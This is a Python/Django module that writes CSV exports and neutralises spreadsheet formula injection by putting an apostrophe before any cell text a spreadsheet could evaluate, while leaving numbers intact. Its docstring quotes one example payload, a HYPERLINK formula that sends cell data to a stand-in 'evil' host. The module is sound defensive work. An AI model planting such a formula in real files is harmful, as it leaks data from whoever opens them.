"""The one CSV writer of every export: cells a spreadsheet would run as a formula are written as text.

A spreadsheet evaluates a cell whose first character is ``=``, ``+``, ``-``
or ``@`` (and some also one starting with a tab, a carriage return, a line
feed or a NUL), so a service name such as ``=HYPERLINK("https://evil/?"&A1)``
would run on the computer of whoever opens the export (CSV injection).
Which cells there are is the reader's decision, not the file's: a
spreadsheet set to a locale whose list separator is ``;`` reads
``x;=HYPERLINK(…)``, one cell to Python's ``csv``, as two, the second a
formula; an import dialog may split on tabs or start a row at a line break.

OWASP's guidance on CSV injection asks that no cell begin with one of those
characters, and warns that the field separator (``,`` or ``;``) and quotes
must be taken care of too, since they let a value start a new cell in the
middle of its text. The rule here follows it for every text cell: every
position where some reader may start a cell (the start of the value, and
just after a ``,``, ``;``, tab, carriage return or line feed), once spaces
and double quotes are skipped, must not hold one of those characters; where
it does, an apostrophe is put at that position, which spreadsheets show as
text (the value stays readable; ``x;=1`` becomes ``x;'=1``).

Numbers (``int``, ``Decimal``, ``float``) are written as they are: a finite
number computes nothing, and a negative amount (a credit, a change against
last month) must stay a number a finance user can add up. Exports therefore
pass figures as numbers, not as text. OWASP's alternative, an apostrophe
before every cell, would turn every figure into text; this rule changes only
what a spreadsheet would evaluate.
"""

from __future__ import annotations

import csv
import math
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_STARTS = frozenset("=+-@\t\r\n\0")
# Where a reader may begin a new cell: the delimiters spreadsheets are set to (",", ";", tab) and line breaks.
CELL_BREAKS = frozenset(",;\t\r\n")
CONTENT_TYPE = "text/csv; charset=utf-8"


def _is_padding(character: str) -> bool:
    """Skipped before a cell's first character: spaces and the quotes a reader may take off the cell."""
    return character == '"' or (character.isspace() and character not in CELL_BREAKS)


def _starts_a_formula(text: str, at: int) -> bool:
    """Whether a cell a reader begins at ``at`` would be evaluated."""
    first = at
    while first < len(text) and _is_padding(text[first]):
        first += 1
    return first < len(text) and text[first] in FORMULA_STARTS


def _is_number(value: Any) -> bool:
    """A finite number (not a bool, whose text is a word); infinities and NaN are written as text."""
    if isinstance(value, Decimal):
        return value.is_finite()
    if isinstance(value, float):
        return math.isfinite(value)
    return isinstance(value, int) and not isinstance(value, bool)


def neutralise(value: Any) -> str:
    """``value`` as the text of a cell no spreadsheet evaluates, however it splits the line into cells."""
    if _is_number(value):
        return str(value)
    text = "" if value is None else str(value)
    starts = [0, *(index + 1 for index, character in enumerate(text) if character in CELL_BREAKS)]
    starts = [start for start in starts if start == 0 or text[start - 1 : start + 1] != "\r\n"]  # CRLF: one break
    pieces: list[str] = []
    done = 0
    for start in starts:
        if _starts_a_formula(text, start):
            pieces.append(text[done:start])
            pieces.append("'")
            done = start
    pieces.append(text[done:])
    return "".join(pieces)


class _Echo:
    """A file whose ``write`` returns the line, so a csv.writer yields lines one at a time for streaming."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The header and rows as CSV lines (RFC 4180 quoting), every cell through :func:`neutralise`."""
    writer = csv.writer(_Echo())
    yield writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        yield writer.writerow([neutralise(cell) for cell in row])


def _disposition(filename: str) -> dict[str, str]:
    return {"Content-Disposition": f'attachment; filename="{filename}"'}


def csv_stream(lines: Iterable[str], *, filename: str) -> StreamingHttpResponse:
    """Lines of :func:`csv_lines` as a download sent while they are read (big exports)."""
    return StreamingHttpResponse(lines, content_type=CONTENT_TYPE, headers=_disposition(filename))


def csv_file(lines: Iterable[str], *, filename: str) -> HttpResponse:
    """Lines of :func:`csv_lines` as a download written out before it is sent (small exports)."""
    return HttpResponse("".join(lines), content_type=CONTENT_TYPE, headers=_disposition(filename))
